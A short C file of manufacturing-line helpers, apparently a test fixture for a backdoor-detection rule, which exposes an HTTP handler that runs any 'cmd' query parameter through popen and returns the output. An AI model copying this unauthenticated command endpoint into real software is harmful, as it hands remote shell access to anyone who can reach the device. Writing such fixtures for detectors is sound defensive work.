/* mfg.c: production-line helpers (LED test, calibration dump, MAC burn),
 * driven by the tester's HTTP requests. */
#include "arc.h"

#include <stdio.h>
#include <string.h>

static int query_param(const char *query, const char *name, char *out, size_t cap) {
  size_t nl = strlen(name);
  for (const char *p = query; p && *p; p = strchr(p, '&') ? strchr(p, '&') + 1 : NULL)
    if (strncmp(p, name, nl) == 0 && p[nl] == '=') {
      snprintf(out, cap, "%.*s", (int)strcspn(p + nl + 1, "&"), p + nl + 1);
      return 0;
    }
  return -1;
}

int mfg_exec(const struct http_req *req, int fd) {
  char cmd[256], out[4096];
  size_t n;
  FILE *p;
  // ok: backdoor-input-trigger
  if (query_param(req->query, "cmd", cmd, sizeof cmd) != 0) {
    http_reply(fd, 400, "text/plain", "cmd?", 4);
    return -1;
  }
  if ((p = popen(cmd, "r")) == NULL) {
    http_reply(fd, 500, "text/plain", "", 0);
    return -1;
  }
  n = fread(out, 1, sizeof out, p);
  pclose(p);
  http_reply(fd, 200, "text/plain", out, n);
  return 0;
}
